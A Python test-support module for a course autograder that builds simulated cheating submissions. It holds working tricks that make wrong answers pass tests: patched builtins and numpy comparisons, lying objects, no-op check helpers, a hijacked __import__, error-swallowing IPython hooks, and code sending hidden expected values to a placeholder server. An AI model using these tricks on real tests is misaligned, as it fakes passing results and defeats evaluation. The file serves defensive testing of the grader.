"""A corpus of tampering submissions, generated from the built answer key.

Each tampering student answers one graded function F *wrongly* and adds one trick meant to
make the notebook's own test of F pass anyway (issue 5: builtins, lying objects, numpy's
comparison functions, the course's check helpers, `__import__`, IPython hooks, exceptions
that some harnesses read as a pass). Everything else in the notebook is the answer key's.

F, its wrong answer and two correct ones come from the assignment's variants data
(tests/variants/, read by support.variants): `target(assignment)`.
"""
from __future__ import annotations

import contextlib
import copy
import io
import textwrap

import nbformat

from coursekit import checks, course

from . import nbtools
from . import variants as variants_data


def _src(text):
    return textwrap.dedent(text).strip() + "\n"


# ---------------------------------------------------------------- variants, as the corpus uses them

def variants(assignment):
    """{function: {"correct": {label: source}, "mistakes": {label: source}}} from the
    assignment's variants data file."""
    out = {}
    for case in variants_data.cases(assignment):
        kind = "correct" if case.correct else "mistakes"
        out.setdefault(case.function, {"correct": {}, "mistakes": {}})[kind][case.label] = case.source
    return out


# ---------------------------------------------------------------- the target of each assignment

# F (and optionally its wrong answer) where chosen: functions returning numbers or arrays, which
# the tricks aimed at numpy comparisons are about. Any other assignment gets the first graded
# function, in notebook order, that has two correct formulations and a typical mistake that
# returns wrong values for every check of F (so that F scores 0 unless a trick fools a test).
TARGETS = {
    "01_derivatives": ("numerical_derivative", None),
    "02_gradient_descent": ("mse", None),
    "04_backprop": ("linear_forward", None),
    "03_logistic_regression": ("sigmoid", _src("""
        def sigmoid(z):
            return 0.5 * z
    """)),
}


def wrong_everywhere(nb, fn, source):
    """True when `source` of `fn` fails every test cell of fn with a wrong value (not an
    exception of its own, a renamed parameter or a missing return)."""
    with contextlib.redirect_stdout(io.StringIO()):   # the checks that pass print a line each
        failures = nbtools.run_cells(nb, fn, nbtools.namespace(nb, {fn: source}))
    return bool(failures) and all(
        isinstance(exc, checks.CheckFailed) and not isinstance(exc, checks.NotImplementedYet)
        and not any(s in str(exc) for s in ("keep the signature", "got None", "should raise"))
        for exc in failures.values())


def target(assignment):
    """(F, wrong source of F, [two correct sources of F])."""
    nb, table = nbtools.load(assignment), variants(assignment)
    chosen, wrong = TARGETS.get(assignment, (None, None))
    for fn in ([chosen] if chosen in table else []) + course.graded_functions(nb):
        correct = list(table.get(fn, {}).get("correct", {}).values())[:2]
        candidates = [wrong] if wrong and fn == chosen else list(table.get(fn, {}).get("mistakes", {}).values())
        usable = [src for src in candidates if wrong_everywhere(nb, fn, src)]
        if len(correct) == 2 and usable:
            return fn, usable[0], correct
    raise AssertionError(f"{assignment}: no graded function with two correct variants and a mistake "
                         "that fails all its checks with wrong values")


# ---------------------------------------------------------------- the tricks
# Each: (where, code). where = "top" (a new cell before the setup cell), "before" (a new
# cell just before F's cell) or "inside" (appended to F's cell, after the wrong F).
# "{F}" is replaced by F's name.

TRICKS = {
    # the first example: the test `abs(sigmoid(2) - 0.8808) < 1e-9` then always passes
    "builtins_abs": ("before", """
        import builtins
        builtins.abs = lambda x: 0
    """),
    # an object that agrees with anything it is compared with
    "lying_object": ("inside", """
        class _Agree:
            def __init__(self, value):
                self._value = value
            def __array__(self, dtype=None, copy=None):
                import numpy
                arr = numpy.asarray(self._value, dtype=float)   # right shape, wrong values
                return arr if dtype is None else arr.astype(dtype)
            shape = property(lambda self: __import__("numpy").shape(self._value))
            dtype = property(lambda self: __import__("numpy").dtype("float64"))
            def __sub__(self, other): return _Agree(0.0)
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
            def __abs__(self): return _Agree(0.0)
            def __neg__(self): return self
            def __lt__(self, other): return True
            __le__ = __lt__
            def __gt__(self, other): return False
            __ge__ = __gt__
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __len__(self): return len(self._value) if hasattr(self._value, "__len__") else 1
            def __getitem__(self, i): return _Agree(0.0)
            def __repr__(self): return "array(ok)"
            __hash__ = object.__hash__
        _wrong_{F} = {F}
        def {F}(*args, **kwargs):
            return _Agree(_wrong_{F}(*args, **kwargs))
    """),
    # an ndarray subclass that lies about its shape and dtype, and compares equal to anything
    "lying_ndarray": ("inside", """
        class _Lying(np.ndarray):
            shape = property(lambda self: getattr(self, "_claimed", ()))
            dtype = property(lambda self: np.dtype("float64"))
            def __sub__(self, other): return np.zeros(getattr(self, "_claimed", ()))
            __rsub__ = __sub__
            def __abs__(self): return np.zeros(getattr(self, "_claimed", ()))
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __lt__
            __hash__ = object.__hash__
        _wrong_{F} = {F}
        def {F}(*args, **kwargs):
            out = _wrong_{F}(*args, **kwargs)
            lie = np.asarray(out, dtype=np.float32).ravel().view(_Lying)   # wrong values, shape, dtype
            lie._claimed = np.shape(out)
            return lie
    """),
    # numpy's comparison functions replaced
    "numpy_patched": ("before", """
        import numpy
        _zeros_like = numpy.zeros_like
        numpy.allclose = lambda *a, **k: True
        numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
        numpy.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        numpy.testing.assert_array_equal = lambda *a, **k: None
        numpy.abs = lambda x, *a, **k: _zeros_like(numpy.asarray(x, dtype=float))
        numpy.max = lambda *a, **k: 0.0
    """),
    # the course's own check helpers replaced by no-ops, in the module and in the notebook
    "helpers_patched": ("before", """
        import coursekit.checks
        _noop = lambda *a, **k: None
        coursekit.checks.check = coursekit.checks.compare = coursekit.checks.compare_arrays = _noop
        ck.check = ck.compare = ck.compare_arrays = _noop
    """),
    # __import__ swapped: the setup cell's `from coursekit import checks as ck` gets a fake
    "import_swapped": ("top", """
        import builtins, types
        _real_import = builtins.__import__
        def _fake_checks(real):
            fake = types.ModuleType("coursekit.checks")
            fake.__dict__.update(real.__dict__)
            fake.check = fake.compare = fake.compare_arrays = lambda *a, **k: None
            return fake
        def _import(name, globals=None, locals=None, fromlist=(), level=0):
            module = _real_import(name, globals, locals, fromlist, level)
            if name == "coursekit" and fromlist and "checks" in fromlist:
                package = types.ModuleType("coursekit")
                package.__dict__.update(module.__dict__)
                package.checks = _fake_checks(module.checks)
                return package
            if name == "coursekit.checks" and fromlist:
                return _fake_checks(module)
            return module
        builtins.__import__ = _import
    """),
    # IPython: every exception swallowed by a custom handler
    "ipython_custom_exc": ("before", """
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
    """),
    # IPython: a post_run_cell hook that wipes a failed cell's error, marks the cell as a
    # success and displays a "partial credit" result (nbgrader gives full marks for a negative one)
    "ipython_post_run_cell": ("before", """
        from IPython.display import clear_output as _clear_output
        def _forgive(result):
            if result.error_in_exec is not None or result.error_before_exec is not None:
                result.error_in_exec = result.error_before_exec = None
                _clear_output()
                get_ipython().displayhook(-1)
        get_ipython().events.register("post_run_cell", _forgive)
    """),
    # exceptions that some harnesses read as a pass
    "raise_system_exit": ("inside", """
        class _Passed(SystemExit):
            pass
        def {F}(*args, **kwargs):
            raise _Passed(0)
    """),
    "raise_keyboard_interrupt": ("inside", """
        class _Interrupted(KeyboardInterrupt):
            pass
        def {F}(*args, **kwargs):
            raise _Interrupted("all tests passed")
    """),
}

# Beyond the list: the learner's kernel copies every expected value (hidden tests
# included) to a server the learner runs, and the fresh re-check kernel fetches them back.
# "{URL}" is replaced by the server's address.
EXFILTRATE = ("before", """
    import hashlib as _hashlib, json as _json, urllib.request as _request
    from coursekit import values as _replay
    def _key(name, inputs):
        data = _json.dumps(_replay.encode(dict(inputs)), sort_keys=True).encode()
        return name + ":" + _hashlib.sha256(data).hexdigest()
    try:
        _answers = _json.loads(_request.urlopen("{URL}/get", timeout=5).read())
    except Exception:
        _answers = {}
    def _send(fn, inputs, expected, **options):
        try:
            body = _json.dumps({_key(fn.__name__, inputs): _replay.encode(expected)}).encode()
            _request.urlopen(_request.Request("{URL}/put", data=body), timeout=5)
        except Exception:
            pass
    ck.check = _send
""")
EXFILTRATE_F = """
_wrong_{F} = {F}
def {F}(*args, **kwargs):
    import inspect
    bound = inspect.signature(_wrong_{F}).bind(*args, **kwargs)
    key = _key("{F}", bound.arguments)
    if key in _answers:
        return _replay.decode(_answers[key])
    return _wrong_{F}(*args, **kwargs)
"""


# ---------------------------------------------------------------- building submissions

def _code_cell(source):
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata = {}
    return cell


def solution_index(nb, fn):
    return next(i for i, c in enumerate(nb.cells) if course.is_solution(c) and course.grade_id(c) == fn)


def with_function(nb, fn, source):
    """A copy of `nb` with F's solution cell replaced by `source`."""
    nb = copy.deepcopy(nb)
    nb.cells[solution_index(nb, fn)].source = source
    return nb


def with_trick(nb, fn, wrong, trick, code=None):
    """A copy of `nb` where F is `wrong` and `trick` (a TRICKS key) is applied."""
    where, template = TRICKS[trick] if code is None else code
    body = _src(template).replace("{F}", fn)
    nb = with_function(nb, fn, wrong)
    index = solution_index(nb, fn)
    if where == "inside":
        nb.cells[index].source = wrong.rstrip("\n") + "\n\n\n" + body
    elif where == "before":
        nb.cells.insert(index, _code_cell(body))
    elif where == "top":
        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(first_code, _code_cell(body))
    else:
        raise ValueError(where)
    return nb


def exfiltrating(nb, fn, wrong, url):
    where, template = EXFILTRATE
    nb = with_trick(nb, fn, wrong, None, code=(where, template.replace("{URL}", url)))
    index = solution_index(nb, fn)
    nb.cells[index].source = wrong.rstrip("\n") + "\n\n" + EXFILTRATE_F.replace("{F}", fn)
    return nb


def write(course, assignment, student, nb):
    folder = course / "submitted" / student / assignment
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{assignment}.ipynb")
